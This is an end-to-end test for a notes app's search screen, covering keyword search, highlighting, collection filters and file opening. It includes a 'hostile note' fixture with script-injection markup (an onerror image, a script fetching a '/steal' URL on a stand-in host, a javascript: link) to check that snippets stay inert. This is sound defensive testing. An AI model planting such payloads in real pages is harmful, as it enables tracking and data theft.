import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CORPUS } from '../helpers/corpus';
import { useTempDir } from '../helpers/temp-dir';
import { screenshot, useApp } from './harness';

const tempDir = useTempDir('hearth-e2e-search-');
const app = useApp();

/** A note written to attack the page that shows it: markup that would fetch, run or navigate. */
const HOSTILE_NOTE = `# Hostile note

The fence paint is <img src="http://203.0.113.7/tracker.png" onerror="alert(1)"> blue.
<script>fetch('http://203.0.113.7/steal')</script> [click](javascript:alert(2)) <a href="http://203.0.113.7/">fence</a>
`;

describe('Search screen', () => {
  it('searches the library, marks the matched words, opens the file through main, and reaches nothing outside the app', async () => {
    const folder = tempDir();
    cpSync(join(CORPUS, 'tldr/pages/common'), join(folder, 'common'), { recursive: true });
    mkdirSync(join(folder, 'notes'));
    writeFileSync(join(folder, 'notes', 'hostile.md'), HOSTILE_NOTE);
    cpSync(join(CORPUS, 'tldr/pages/windows'), join(tempDir(), 'windows'), { recursive: true });

    const session = await app.open(tempDir(), '/search');
    const { page, bridge } = session;
    // Indexing through the screen is the library test's job: here the real services index directly.
    const { library } = bridge.services;
    const commands = library.createCollection('Commands');
    library.addFolder(commands.id, folder);
    await library.index(commands.id);
    const windows = library.createCollection('Windows');
    library.addFolder(windows.id, join(CORPUS, 'tldr/pages/windows'));
    await library.index(windows.id);

    await page.reload();
    await page.getByRole('checkbox', { name: 'Windows' }).waitFor();
    await page.getByRole('checkbox', { name: 'Windows' }).uncheck();
    await page.getByLabel('Search the library').fill('use the file extension to determine the compression program');
    await page.getByRole('button', { name: 'Search' }).click();
    const hits = page.getByTestId('search-hit');
    await hits.first().waitFor();
    await expect
      .poll(() => page.getByTestId('search-summary').textContent())
      .toMatch(/passages · by keywords · \d+ ms/);
    expect(await hits.first().textContent()).toMatch(/^common\/tar\.md\s*lines \d+–\d+/);
    const marked = await hits.first().locator('mark').allTextContents();
    expect(marked.map((word) => word.toLowerCase())).toEqual(
      expect.arrayContaining(['extension', 'determine', 'compression', 'program']),
    );
    // Only the collections ticked were searched.
    const paths = await hits.evaluateAll((items) => items.map((item) => item.querySelector('span')?.textContent ?? ''));
    expect(paths.every((path) => path.startsWith('common/') || path.startsWith('notes/'))).toBe(true);
    await screenshot(page, 'search-results');

    await hits.first().getByRole('button', { name: 'Open file' }).click();
    await hits.first().getByRole('button', { name: 'Show in folder' }).click();
    await expect.poll(() => bridge.opened.length).toBe(2);
    expect(bridge.opened).toEqual([
      { action: 'open', path: join(folder, 'common', 'tar.md') },
      { action: 'show', path: join(folder, 'common', 'tar.md') },
    ]);

    // A document's markup is shown as text: no image loads, no script runs, no link is made.
    await page.getByLabel('Search the library').fill('fence paint');
    await page.getByRole('button', { name: 'Search' }).click();
    const hostile = hits.filter({ hasText: 'notes/hostile.md' });
    await hostile.waitFor();
    const snippet = hostile.getByTestId('search-snippet');
    expect(await snippet.locator('img, script, a, iframe').count()).toBe(0);
    expect(await snippet.textContent()).toContain('<img src="http://203.0.113.7/tracker.png"');
    await screenshot(page, 'search-hostile-note');

    // Searching by meaning needs an embedding model: the screen says so instead of failing quietly.
    await page.getByLabel('Search by').selectOption('vector');
    await page.getByRole('button', { name: 'Search' }).click();
    await expect.poll(() => page.getByRole('alert').textContent()).toMatch(/needs an embedding model/);
    await screenshot(page, 'search-needs-model');

    const origin = new URL(bridge.url).origin;
    expect(session.requests.filter((url) => !url.startsWith(`${origin}/`))).toEqual([]);
    expect(session.errors).toEqual([]);
  });
});
